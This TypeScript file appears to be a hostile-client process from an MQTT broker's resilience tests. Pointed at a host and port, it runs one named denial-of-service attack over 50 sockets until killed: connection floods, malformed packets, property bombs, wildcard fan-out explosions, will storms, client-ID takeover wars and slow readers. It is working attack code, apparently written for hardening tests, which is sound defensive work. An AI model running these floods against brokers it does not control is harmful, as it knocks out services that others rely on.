/** The process of an attack: `attacker.ts HOST PORT NAME`. It prints a line when it has begun, and goes on until it is killed. */

import { connect, type Socket } from 'node:net';
import { type ConnectPacket, encodePacket, type Packet, PacketType } from '@pipit/protocol';
import type { AttackName } from './attack-names.ts';

const [host = '', port = '', name = ''] = process.argv.slice(2);
/** Sockets that an attack has at a time. */
const width = 50;

const attacks: { readonly [Name in AttackName]: (id: number) => Promise<void> } = {
  'connect-flood': async (id) => void (await client(id)).socket.destroy(),
  'bad-connect-flood': async () => {
    const peer = await open();
    await peer.write(Buffer.from('GET / HTTP/1.1\r\n\r\n'));
    await peer.closed;
  },
  'half-open': async () => {
    const peer = await open();
    await peer.write(Buffer.from([0x10, 0x7f, 0, 4]));
    await peer.closed;
  },
  'declared-lengths': async (id) => {
    const peer = await client(id);
    await peer.write(Buffer.concat([Buffer.from('30ffffff7f', 'hex'), Buffer.alloc(1000)]));
    await peer.closed;
  },
  'property-bombs': async (id) => {
    const peer = await client(id);
    await peer.send(bomb);
    await peer.closed;
  },
  'deep-topics': async (id) => {
    const peer = await client(id);
    await peer.send(subscribe(1, ['a/'.repeat(32_000)]), publish('a/'.repeat(32_000)));
    await peer.closed;
  },
  'unreleased-qos2': (id) => endless(id, (at) => publish('q2', { qos: 2, packetId: (at % 900) + 1 }), 900),
  'subscribe-flood': (id) => endless(id, (at) => subscribe((at % 65_535) + 1, [`f/${id}/${at}/+/#`]), 5_000),
  'retained-flood': (id) =>
    endless(id, (at) => publish(`r/${id}/${at % 1_000}`, { retain: true, payload: new Uint8Array(64) })),
  'wildcard-storm': async (id) => {
    const peer = await client(id);
    await peer.send(subscribe(1, ['storm/#', 'storm/+', '+/+']));
    for (let at = 0; !peer.isClosed; at++) {
      await peer.send(publish(`storm/${at % 100}`, { payload: new Uint8Array(64) }));
      await new Promise((done) => setTimeout(done, 10));
    }
  },
  'wildcard-explosion': async (id) => {
    const peer = await client(id);
    // A hundred thousand places among all of them, and every topic leads to each.
    const filters = Array.from({ length: 2_048 }, (_, at) =>
      Array.from({ length: 11 }, (_, bit) => ((at >> bit) & 1 ? '+' : 'a')).join('/'),
    );
    for (let at = 0; at < filters.length; at += 128) {
      await peer.send(
        subscribe(
          at + 1,
          filters.slice(at, at + 128).map((filter) => `${filter}/end-${id}`),
        ),
      );
    }
    for (let at = 0; !peer.isClosed; at += 10) {
      await peer.send(...Array.from({ length: 10 }, (_, i) => publish(`${'a/'.repeat(11)}${at + i}`)));
      await new Promise((done) => setImmediate(done));
    }
  },
  'closing-hoarders': async (id) => {
    const peer = await client(id);
    for (let packetId = 1; packetId <= 9 && !peer.isClosed; packetId++) {
      await peer.send(
        subscribe(
          packetId,
          Array.from({ length: 1_000 }, (_, at) => `h/${id}/${packetId}/${at}/+/#`),
        ),
      );
    }
    await new Promise((done) => setTimeout(done, 500));
    peer.socket.destroy();
  },
  'will-storm': async (id) => {
    if (id < 10) {
      const reader = await client(id);
      await reader.send(subscribe(1, ['wills']));
      await reader.closed;
      return;
    }
    const will = { topic: 'wills', payload: new Uint8Array(1_000), qos: 0 as const, retain: false };
    (await client(id, { will })).socket.destroy();
  },
  'takeover-war': async (id) => {
    const peer = await client(id % 5);
    await peer.closed;
  },
  'slow-readers': async (id) => {
    const peer = await client(id);
    await peer.send(subscribe(1, ['slow']));
    peer.socket.pause();
    while (!peer.isClosed) {
      await peer.send(publish('slow', { payload: new Uint8Array(10_000) }));
      await new Promise((done) => setTimeout(done, 20));
    }
  },
};

const bomb = publish('t', {
  properties: { userProperties: Array.from({ length: 20_000 }, (_, at): [string, string] => [`k${at}`, 'v']) },
});

class Peer {
  readonly socket: Socket;
  isClosed = false;
  readonly closed: Promise<void>;

  constructor(socket: Socket) {
    this.socket = socket;
    socket.resume();
    socket.on('error', () => {});
    socket.on('end', () => socket.end());
    this.closed = new Promise((done) => {
      socket.on('close', () => {
        this.isClosed = true;
        done();
      });
    });
  }

  async send(...packets: readonly Packet[]): Promise<void> {
    await this.write(Buffer.concat(packets.map((packet) => encodePacket(packet, 5, 'client'))));
  }

  async write(bytes: Buffer): Promise<void> {
    if (this.isClosed || this.socket.write(bytes)) return;
    await Promise.race([new Promise((done) => this.socket.once('drain', done)), this.closed]);
  }
}

function open(): Promise<Peer> {
  const socket = connect({ host, port: Number(port), noDelay: true });
  return new Promise((done) => {
    socket.once('connect', () => done(new Peer(socket)));
    // Turned away at once: it comes again.
    socket.once('error', () => setTimeout(() => done(open()), 10));
  });
}

async function client(id: number, fields: Partial<ConnectPacket> = {}): Promise<Peer> {
  const peer = await open();
  const clientId = `hostile-${id}`;
  await peer.send({ type: PacketType.Connect, version: 5, clientId, cleanStart: true, keepAlive: 0, ...fields });
  await new Promise((done) => peer.socket.once('data', done).once('close', done));
  return peer;
}

/** One packet after the other, in writes of a hundred; after so many, on a new connection. */
async function endless(id: number, packet: (at: number) => Packet, count = Number.POSITIVE_INFINITY): Promise<void> {
  const peer = await client(id);
  for (let at = 0; at < count && !peer.isClosed; at += 100) {
    await peer.send(...Array.from({ length: 100 }, (_, i) => packet(at + i)));
    await new Promise((done) => setImmediate(done));
  }
  peer.socket.destroy();
}

function publish(topic: string, fields: object = {}): Packet {
  const plain = { qos: 0, retain: false, dup: false, packetId: 0, payload: new Uint8Array(0) } as const;
  return { type: PacketType.Publish, ...plain, topic, ...fields };
}

function subscribe(packetId: number, filters: readonly string[]): Packet {
  const options = { qos: 0 as const, noLocal: false, retainAsPublished: false, retainHandling: 2 as const };
  return { type: PacketType.Subscribe, packetId, subscriptions: filters.map((filter) => ({ filter, ...options })) };
}

async function again(id: number): Promise<never> {
  const attack = attacks[name as AttackName];
  for (;;) {
    await attack(id);
    await new Promise((done) => setImmediate(done));
  }
}

const started = Promise.all(Array.from({ length: width }, (_, id) => again(id)));
console.log('begun');
await started;
